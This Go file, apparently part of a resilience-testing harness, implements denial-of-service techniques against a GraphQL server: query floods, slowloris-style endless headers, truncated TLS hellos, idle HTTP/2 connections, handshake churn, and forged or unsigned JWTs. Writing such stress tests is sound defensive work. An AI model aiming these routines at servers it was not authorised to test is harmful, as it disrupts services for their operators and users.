package attack

import (
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
)

// flood asks for what costs next to nothing.
func flood(ctx context.Context, p *party) {
	p.crowd(ctx, 1000, func(int, int) *http.Request { return p.post("", operation("{ __typename }", nil)) })
}

const (
	overHTTP1 = "http/1.1"
	overHTTP2 = "h2"
	noTLS     = ""
)

// begin has so many connections send something, and wait until they are ended.
func (p *party) begin(ctx context.Context, connections int, protocol, text string) {
	p.clients(ctx, connections, func(i int) {
		if conn, err := p.dial(ctx, i, protocol); err == nil {
			stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
			defer stop()
			defer conn.Close()
			if _, err := io.WriteString(conn, text); err == nil {
				_, _ = io.Copy(io.Discard, conn)
			}
		}
		p.cut(ctx)
	})
}

// endlessHeaders send as much of a header as the server reads, in lines of a few bytes.
func endlessHeaders(ctx context.Context, p *party) {
	p.begin(ctx, 1000, overHTTP1, "GET /graphql HTTP/1.1\r\nHost: "+p.host+"\r\n"+numbered(4500, "%[1]x:\n"))
}

// endlessHellos begin a handshake of TLS with a hello that does not come to its end.
func endlessHellos(ctx context.Context, p *party) {
	hello := append([]byte{1, 0, 0xf0, 0, 3, 3}, make([]byte, 60<<10)...)
	var text []byte
	for part := range slices.Chunk(hello, 16<<10) {
		text = append(append(text, 22, 3, 1, byte(len(part)>>8), byte(len(part))), part...)
	}
	p.begin(ctx, 1000, noTLS, string(text[:len(text)-100]))
}

// prefaceAndSettings begin a connection of HTTP/2.
const prefaceAndSettings = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00"

// idleHTTP2 opens connections of HTTP/2, and asks for nothing.
func idleHTTP2(ctx context.Context, p *party) {
	p.begin(ctx, 500, overHTTP2, prefaceAndSettings)
}

// handshakesAgain are whole, and nothing comes after them.
func handshakesAgain(ctx context.Context, p *party) {
	p.clients(ctx, 8, func(i int) {
		conn, err := p.dial(ctx, i, overHTTP1)
		for ; err == nil; conn, err = p.dial(ctx, i, overHTTP1) {
			p.tally.take()
			_ = conn.Close() // it asks for nothing
		}
		p.cut(ctx)
	})
}

// unknownKeys sends tokens that nobody signed, each of a key of another name.
func unknownKeys(ctx context.Context, p *party) {
	p.crowd(ctx, 8, func(client, n int) *http.Request {
		head := fmt.Appendf(nil, `{"alg":"EdDSA","kid":"%d-%d"}`, client, n)
		return p.unsigned(base64.RawURLEncoding.EncodeToString(head), client, n)
	})
}

// forgedTokens name the key of the issuer, which anybody can read, and are not signed with it.
func forgedTokens(ctx context.Context, p *party) {
	head, _, _ := strings.Cut(p.citizen(0).Token, ".")
	p.crowd(ctx, 256, func(client, n int) *http.Request { return p.unsigned(head, client, n) })
}

// unsigned is a request with a token that nobody sent before.
func (p *party) unsigned(head string, client, n int) *http.Request {
	part := base64.RawURLEncoding.EncodeToString
	token := head + "." + part(fmt.Appendf(nil, `{"iss":"x","sub":"%d-%d"}`, client, n)) + "." + part(make([]byte, 64))
	return p.post(token, operation("{ __typename }", nil))
}
